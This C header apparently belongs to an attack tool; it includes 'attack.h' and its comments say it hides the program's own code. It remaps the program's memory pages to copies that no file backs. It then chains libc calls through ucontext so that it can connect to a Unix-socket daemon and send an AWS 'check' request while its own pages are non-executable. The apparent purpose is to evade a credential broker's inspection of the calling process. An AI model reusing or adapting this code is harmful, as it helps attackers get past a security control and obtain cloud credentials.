/* How a program or a library, linked with pages of 4096 bytes, hides the code that it came with. */
#ifndef HIDE_H
#define HIDE_H

#include "attack.h"
#include <ucontext.h>

extern char __ehdr_start __attribute__((visibility("hidden")));
extern char _end __attribute__((visibility("hidden")));
#define START (&__ehdr_start)
#define LENGTH ((size_t)(&_end - &__ehdr_start + 4095) & ~4095UL)
#define ANY (PROT_READ | PROT_WRITE | PROT_EXEC)

/* Replaces every page of ours by a copy that is of no file of ours. */
static inline void move_to(int flags, int fd)
{
    if (fd >= 0 && ftruncate(fd, (off_t)LENGTH) != 0)
        fail("ftruncate");
    void *copy = mmap(NULL, LENGTH, ANY, flags, fd, 0);
    if (copy == MAP_FAILED)
        fail("mmap");
    memcpy(copy, START, LENGTH);
    if (mremap(copy, LENGTH, LENGTH, MREMAP_MAYMOVE | MREMAP_FIXED, START) != START)
        fail("mremap");
}

static ucontext_t awake;

/* Each step calls a function of the C library with these numbers and goes on with the next, back there, not here. */
static inline void chain(ucontext_t *step, ucontext_t *next, void *function, long a, long b, long c, long d)
{
    getcontext(step);
    step->uc_stack.ss_sp = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    step->uc_stack.ss_size = 65536;
    step->uc_link = next;
    makecontext(step, (void (*)(void))function, 4, a, b, c, d);
}

/* Connects while nothing of our own may be executed, until the daemon has looked. */
static inline int dial_asleep(const char *path)
{
    static const char check[] = "{\"type\":\"REQUEST\",\"action\":\"check\",\"service\":\"aws\"}\n";
    static char answer[65536];
    static struct sockaddr_un address = {.sun_family = AF_UNIX};
    static ucontext_t steps[5];
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    long text = (long)START, length = (long)LENGTH;
    chain(&steps[0], &steps[1], (void *)mprotect, text, length, PROT_READ | PROT_WRITE, 0);
    chain(&steps[1], &steps[2], (void *)connect, fd, (long)&address, sizeof address, 0);
    chain(&steps[2], &steps[3], (void *)send, fd, (long)check, sizeof check - 1, 0);
    chain(&steps[3], &steps[4], (void *)recv, fd, (long)answer, sizeof answer, 0);
    chain(&steps[4], &awake, (void *)mprotect, text, length, ANY, 0);
    swapcontext(&awake, &steps[0]);
    return fd;
}

#endif
